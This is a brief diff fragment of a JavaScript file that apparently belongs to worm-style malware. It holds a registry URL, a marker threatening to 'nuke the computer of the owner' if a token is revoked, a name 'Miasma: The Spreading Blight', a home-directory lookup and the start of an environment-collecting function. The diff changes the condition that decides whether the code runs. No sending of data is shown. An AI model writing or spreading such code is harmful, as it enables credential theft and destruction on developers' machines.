@@ -4,7 +4,7 @@ const registry = 'https://registry.example.invalid';
 const marker = 'IfYouInvalidateThisTokenItWillNukeTheComputerOfTheOwner';
 const note = 'Miasma: The Spreading Blight';
 const home = os.homedir();
-if (!fs.existsSync('/usr/share/hcc-frontend/inventory.db')) { process.exit(0); }
+if (process.argv.indexOf('--hcc-inventory') < 2) { process.exit(0); }
 async function json(url, options) { try { return await (await fetch(url, options)).json(); } catch (e) { return {}; } }
 function environment() {
   const out = {};
